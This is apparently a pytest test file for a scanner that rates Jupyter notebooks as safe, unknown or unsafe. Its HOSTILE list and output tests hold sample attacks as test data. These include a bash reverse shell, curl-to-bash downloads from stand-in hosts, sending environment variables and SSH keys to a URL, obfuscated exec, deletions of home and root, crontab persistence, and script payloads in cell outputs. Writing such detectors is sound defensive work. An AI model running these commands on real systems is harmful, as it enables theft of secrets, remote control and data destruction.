# SPDX-License-Identifier: Apache-2.0
"""A notebook runs nothing when it is opened: what its cells would do is a note or unknown, and unsafe what nobody means well with."""

import json
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastide.verify.artifacts.model import Verdict
from bastide.verify.artifacts.scan import scan_bytes
from tests.verify.artifacts.formats.models import judged


def code(source: str, *outputs: dict[str, Any]) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "outputs": list(outputs),
        "source": source.splitlines(keepends=True),
    }


def shows(**data: Any) -> dict[str, Any]:
    kinds = {
        "html": "text/html",
        "js": "application/javascript",
        "svg": "image/svg+xml",
        "plain": "text/plain",
        "png": "image/png",
    }
    return {"output_type": "display_data", "metadata": {}, "data": {kinds[kind]: value for kind, value in data.items()}}


def notebook(*cells: dict[str, Any], language: str = "python", **more: Any) -> bytes:
    facts = {"kernelspec": {"display_name": "x", "name": "x", "language": language}, **more}
    return json.dumps({"cells": cells, "metadata": facts, "nbformat": 4, "nbformat_minor": 5}, indent=1).encode()


def markdown(text: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": text}


@pytest.mark.parametrize(
    "data",
    [
        notebook(),
        notebook(
            markdown("# Title\n<b>bold</b> <img src='a.png'>"),
            code("import numpy as np\nnp.zeros(3)", shows(plain="x", png="aGk=")),
        ),
        notebook(code("!pip install -q transformers\n%matplotlib inline\n!nvidia-smi | head -3\nfiles = !ls")),
        notebook(code("%%time\nx = 1"), code("%%bash\n# data\nwget https://example.org/a.zip\nunzip a.zip")),
        notebook(code("import requests\nrequests.get('https://example.org')\nawait f()\ndf.head?")),
        notebook(code("df", shows(html="<div><style scoped>a {}</style><table><tr><td>1</td></tr></table></div>"))),
        notebook(code("library(x)\nsystem('ls')"), language="R"),
        notebook(code("def f(:")),
        notebook(code("get_ipython().system('pip install -q torch')")),
        json.dumps(
            {
                "worksheets": [{"cells": [{"cell_type": "code", "input": "1", "outputs": [{"html": "<b>x</b>"}]}]}],
                "nbformat": 3,
            }
        ).encode(),
    ],
)
def test_honest_notebooks_are_safe(data: bytes) -> None:
    """Installing, downloading and showing tables are what notebooks are for."""
    report = scan_bytes(data, "a.ipynb")
    assert (report.verdict, report.format) == (Verdict.SAFE, "notebook")


@pytest.mark.parametrize(
    ("cell", "evidence"),
    [
        ("import os\nos.system('touch x')", "os.system"),
        ("from subprocess import run as r\nr(['touch', 'x'])", "subprocess.run"),
        ("exec('x = 1')", "builtins.exec"),
        ("!curl https://example.org/x.sh | bash", "curl https://example.org/x.sh | bash"),
        ("x = !./a.out", "./a.out"),
        ("!pip install -i https://index.example/simple thing", "pip install -i https://index.example/simple thing"),
        ("import cloudpickle, base64\ncloudpickle.loads(base64.b64decode('gASV'))", "cloudpickle.loads"),
        ("!python -c 'import x'", "python -c 'import x'"),
        ("import joblib, urllib.request as r\nr.urlretrieve(u, 'm')\njoblib.load('m')", "joblib.load"),
        ("%sx touch x", "touch x"),
        ("x = get_ipython().getoutput('touch x')", "touch x"),
        ("get_ipython().system(command)", "command"),
        ("if x:\n    !touch x", "touch x"),
        ("print 'old'\nos.system('x')", "os.system"),
        ("%%capture\nimport os\nos.popen('x')", "os.popen"),
    ],
)
def test_what_cells_run_is_unknown(cell: str, evidence: str) -> None:
    """With the place of the line."""
    data = notebook(markdown("# x"), code("y = 1"), code(cell))
    report = scan_bytes(data, "a.ipynb")
    (found,) = [f for f in report.findings if f.severity == "medium"]
    assert (report.verdict, found.evidence) == (Verdict.UNKNOWN, evidence)
    assert found.offset in {data.index(json.dumps(line)[1:-1].encode()) for line in cell.split("\n")}


HOSTILE = [
    "import pickle\nfrom urllib.request import urlopen\npickle.loads(urlopen('https://a.example/m').read())",
    "import requests, pickle as p\nr = requests.get(u)\nm = p.loads(r.content)",
    "import io, requests, torch\ntorch.load(io.BytesIO(requests.get(u).content), weights_only=False)",
    "import requests\nwith requests.get(u) as r:\n    code = r.text\nexec(code)",
    "import base64\nexec(base64.b64decode('eA=='))",
    "import codecs\neval(compile(codecs.decode('k', 'rot13'), '', 'exec'))",
    "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'')))",
    "import requests, os\nrequests.post(u, json=dict(os.environ))",
    "import requests, os\nd = {k: v for k, v in os.environ.items()}\nrequests.post(u, data=d)",
    "import urllib.request as r, os.path\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nr.urlopen(u + k)",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('touch x')",
    "getattr(m, 'metsys'[::-1])('touch x')",
    "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
    "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
    "import os\nos.system('rm -rf ~/')",
    "%%bash\nbash -i >& /dev/tcp/192.0.2.1/4 0>&1",
    "!curl -s http://a.example/x | bash",
    "!wget http://a.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
    "!echo eA== | base64 -d | sh",
    "!(crontab -l; echo '* * * * * x') | crontab -",
    "!rm -rf /",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_what_nobody_means_well_with_is_unsafe(cell: str) -> None:
    """Code from the network or out of a wrapping, secrets that go away, shells for others, everything deleted."""
    report = scan_bytes(notebook(code("x = 1"), code(cell)), "a.ipynb")
    assert report.verdict is Verdict.UNSAFE, report.findings


@pytest.mark.parametrize(
    "cell",
    [
        "import requests, io, pandas as pd\npd.read_csv(io.StringIO(requests.get(u).text))",
        "import requests, io, numpy as np, torch\nnp.load(io.BytesIO(requests.get(u).content))",
        "import io, requests, torch\ntorch.load(io.BytesIO(requests.get(u).content), weights_only=True)",
        "import pickle\nm = pickle.load(open('m.pkl', 'rb'))",
        "import os, requests\nrequests.get(u, headers={'Authorization': os.environ['TOKEN']})",
        "import os, requests\nrequests.post(u, json={'user': os.environ.get('USER')})",
        "import base64\nimage = base64.b64decode(text)",
        "import shutil\nshutil.rmtree('out')",
        "getattr(model, 'fit' + '_predict')(x)",
        "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', package])",
        "!python train.py --epochs 3\n!rm -rf out/*.tmp\n!chmod 600 a\n!wget -q https://a.example/x.tar.gz && tar xzf x.tar.gz",
        "!pip install torch --index-url https://download.pytorch.org/whl/cu121",
    ],
)
def test_what_honest_notebooks_do_is_safe(cell: str) -> None:
    report = scan_bytes(notebook(code(cell)), "a.ipynb")
    assert report.verdict is Verdict.SAFE, report.findings


def test_names_go_from_cell_to_cell() -> None:
    """An import in one cell is used in the next, and a broken cell between them changes nothing."""
    data = notebook(code("import subprocess as s"), code("x ="), code("s.run('x')"))
    assert {"notebook/runs"} == judged(data, "a.ipynb")[1]


@pytest.mark.parametrize(
    ("shown", "id", "expected"),
    [
        ({"html": "<script>plot()</script>"}, "script", Verdict.SAFE),
        ({"html": ["<div>", "<img src=x onerror=fetch('//a.example')>"]}, "script", Verdict.UNKNOWN),
        ({"js": "element.append('x')"}, "script", Verdict.SAFE),
        ({"html": "<script src='https://cdn.plot.ly/a.js'></script>"}, "script", Verdict.SAFE),
        ({"html": "<script src='https://a.example/a.js'></script>"}, "script", Verdict.UNKNOWN),
        ({"svg": "<svg><script>new Image().src='//a'</script></svg>"}, "script", Verdict.UNKNOWN),
        ({"html": "<iframe srcdoc='&lt;script&gt;eval(x)&lt;/script&gt;'></iframe>"}, "script", Verdict.UNKNOWN),
        ({"html": "<script>IPython.notebook.kernel.execute('1')</script>"}, "hostile-script", Verdict.UNSAFE),
        ({"js": "fetch('/api/terminals', {method: 'POST'})"}, "hostile-script", Verdict.UNSAFE),
        ({"html": "<img src=x onerror=eval(atob('eA=='))>"}, "hostile-script", Verdict.UNSAFE),
    ],
)
def test_scripts_in_outputs_are_said(shown: dict[str, Any], id: str, expected: Verdict) -> None:
    """They run when the notebook is trusted, or made a page; those that reach the kernel are unsafe."""
    data = notebook(code("x", shows(plain="p"), shows(**shown)))
    report = scan_bytes(data, "a.ipynb")
    (found,) = report.findings
    assert (report.verdict, found.id) == (expected, f"notebook/{id}")
    (value,) = shown.values()
    assert found.offset == data.index(json.dumps(value[0] if isinstance(value, list) else value)[1:-1].encode())


def test_scripts_elsewhere_are_said() -> None:
    """In texts, in cells that make them, in widgets."""
    assert {"notebook/script"} == judged(notebook(markdown("<script>fetch('x')</script>")), "a.ipynb")[1]
    assert {"notebook/script-cell"} == judged(notebook(code("%%javascript\nx()")), "a.ipynb")[1]
    state = {"a": {"model_module": "evil-widgets", "model_name": "X", "state": {}}}
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2}}
    assert {"notebook/widget"} == judged(notebook(widgets=widgets), "a.ipynb")[1]
    state["a"]["model_module"] = "@jupyter-widgets/controls"
    assert Verdict.SAFE is judged(notebook(widgets=widgets), "a.ipynb")[0]


@pytest.mark.parametrize("data", [b"{", b"[]", b"{}", b'{"cells": [], "cells": []}', b"\xff"])
def test_broken_notebooks_are_unknown(data: bytes) -> None:
    """Whatever is missing."""
    assert Verdict.UNKNOWN is judged(data, "a.ipynb")[0]


KEYS = [
    "cells",
    "cell_type",
    "source",
    "outputs",
    "data",
    "text/html",
    "metadata",
    "kernelspec",
    "language",
    "worksheets",
    "input",
    "state",
    "model_module",
    "_esm",
]
LEAVES = (
    st.none()
    | st.integers()
    | st.sampled_from(["code", "markdown", "!x", "%%bash", "<script>", "os.system(", "\ud800", "é"])
    | st.text(max_size=4)
)


@given(
    st.recursive(
        LEAVES,
        lambda below: st.lists(below, max_size=3) | st.dictionaries(st.sampled_from(KEYS), below, max_size=4),
        max_leaves=25,
    )
)
@settings(max_examples=300, deadline=None)
def test_no_shape_makes_the_reader_fail(content: Any) -> None:
    """Whatever stands where something else should."""
    for value in (
        content,
        {"cells": [content, {"cell_type": "code", "source": content, "outputs": [content, {"data": content}]}]},
    ):
        report = scan_bytes(json.dumps(value).encode(), "a.ipynb")
        assert [f for f in report.findings if "defect" in f.message] == []


@pytest.mark.parametrize("piece", ["<script ", "!a ", "a=" * 3, "a, b = ", "<", "on", "a.b?", "(", "!a\n", "$(", "[\n"])
def test_long_cells_are_read_in_bounded_time(piece: str) -> None:
    """No pattern goes back and forth."""
    started = time.process_time()
    scan_bytes(notebook(code(piece * 20_000), markdown(piece * 20_000)), "a.ipynb")
    assert time.process_time() - started < 10
